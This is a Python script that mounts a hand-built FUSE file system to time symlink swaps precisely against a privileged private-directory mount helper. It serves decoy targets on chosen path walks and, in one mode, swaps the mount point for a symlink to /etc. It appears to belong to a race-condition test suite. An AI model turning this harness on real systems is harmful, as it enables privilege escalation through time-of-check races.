#!/usr/bin/python3
"""priv-race-fuse.py MOUNTPOINT CONTROL TRACE

Times the path swaps of private-attacks exactly, instead of hoping a busy
racer hits the window. Mounts, on MOUNTPOINT, a FUSE file system (raw
/dev/fuse protocol, no library) holding one symbolic link, "lnk"; the
case makes ~/.Private a symlink to it. The kernel asks this process for
the link's target on every path walk through it (no symlink caching, zero
entry and attribute timeouts), so this process sees each lookup of the
source as it happens and answers it, or acts, as CONTROL says at that
moment: a line "MODE REAL DECOY HOME", where MODE is

  real    always REAL;
  early   DECOY to a process's first walk (the helper's own open of the
          source sees the decoy);
  late    REAL to a process's first walk and DECOY to the next ones (the
          helper checks REAL; the kernel's lookup when it creates the
          mount finds DECOY);
  mnt     always REAL, but before answering a process's first walk,
          HOME/Private (the mount point, already opened by the helper) is
          renamed HOME/real.tmp and replaced by a symlink to /etc.

Each answer is appended to TRACE as "PID N TARGET" (N counts that
process's walks). Returns once the file system is mounted, serving it
from a child process until it is unmounted.
"""
import ctypes
import errno
import os
import stat
import struct
import sys
import time

FUSE_LOOKUP, FUSE_FORGET, FUSE_GETATTR, FUSE_READLINK = 1, 2, 3, 5
FUSE_INIT, FUSE_INTERRUPT, FUSE_BATCH_FORGET = 26, 36, 42
NO_REPLY = (FUSE_FORGET, FUSE_BATCH_FORGET, FUSE_INTERRUPT)
ROOT, LINK = 1, 2
MS_NOSUID, MS_NODEV = 2, 4
IN_HEADER = struct.Struct('<IIQQIIIHH')		# fuse_in_header, 40 bytes
OUT_HEADER = struct.Struct('<IiQ')		# fuse_out_header
ATTR = struct.Struct('<QQQQQQIIIIIIIIII')	# fuse_attr, 88 bytes


def attr(node, size):
	mode = stat.S_IFDIR | 0o755 if node == ROOT else stat.S_IFLNK | 0o777
	return ATTR.pack(node, size, 0, 0, 0, 0, 0, 0, 0, mode,
			 2 if node == ROOT else 1, 0, 0, 0, 4096, 0)


def control(path):
	# Only a lookup of the link reads it, and none runs while the case
	# rewrites it; still, a half-written file is read again.
	for _ in range(100):
		with open(path) as f:
			words = f.read().split()
		if len(words) == 4:
			return words
		time.sleep(0.01)
	sys.exit('priv-race-fuse: %s does not hold "MODE REAL DECOY HOME"' % path)


def serve(fd, ctl, trace):
	walks = {}
	while True:
		try:
			buf = os.read(fd, 1 << 17)
		except OSError as e:
			if e.errno == errno.ENODEV:	# unmounted
				return
			if e.errno in (errno.EINTR, errno.ENOENT):
				continue
			raise
		_, op, unique, node, _, _, pid, _, _ = IN_HEADER.unpack_from(buf)
		body = buf[IN_HEADER.size:]
		if op in NO_REPLY:
			continue
		err, out = 0, b''
		mode, real, decoy, home = control(ctl)
		target = real.encode()
		if op == FUSE_INIT:
			_, _, readahead, _ = struct.unpack_from('<IIII', body)
			# 7.31, no capability flags (so no symlink cache), 4 KiB writes.
			out = struct.pack('<IIIIHHIIHHI', 7, 31, readahead, 0, 0, 0,
					  4096, 1, 0, 0, 0) + bytes(28)
		elif op == FUSE_LOOKUP:
			if node == ROOT and body.split(b'\0')[0] == b'lnk':
				out = struct.pack('<QQQQII', LINK, 0, 0, 0, 0, 0) + \
					attr(LINK, len(target))
			else:
				err = errno.ENOENT
		elif op == FUSE_GETATTR and node in (ROOT, LINK):
			out = struct.pack('<QII', 0, 0, 0) + attr(node, len(target))
		elif op == FUSE_READLINK and node == LINK:
			n = walks[pid] = walks.get(pid, 0) + 1
			if mode == 'early' and n == 1 or mode == 'late' and n > 1:
				target = decoy.encode()
			if mode == 'mnt' and n == 1:
				os.rename(home + '/Private', home + '/real.tmp')
				os.symlink('/etc', home + '/Private')
			with open(trace, 'a') as t:
				t.write('%d %d %s\n' % (pid, n, target.decode()))
			out = target
		else:
			err = errno.ENOSYS
		os.write(fd, OUT_HEADER.pack(OUT_HEADER.size + len(out), -err, unique) + out)


def main():
	if len(sys.argv) != 4:
		sys.exit(__doc__.split('\n\n')[0])
	mnt, ctl, trace = sys.argv[1], os.path.abspath(sys.argv[2]), os.path.abspath(sys.argv[3])
	control(ctl)
	fd = os.open('/dev/fuse', os.O_RDWR)
	libc = ctypes.CDLL(None, use_errno=True)
	opts = 'fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other' % fd
	if libc.mount(b'ecfs-race', mnt.encode(), b'fuse', MS_NOSUID | MS_NODEV,
		      opts.encode()) != 0:
		e = ctypes.get_errno()
		sys.exit('priv-race-fuse: mount on %s: %s' % (mnt, os.strerror(e)))
	if os.fork() == 0:
		os.setsid()
		serve(fd, ctl, trace)
		os._exit(0)


if __name__ == '__main__':
	main()
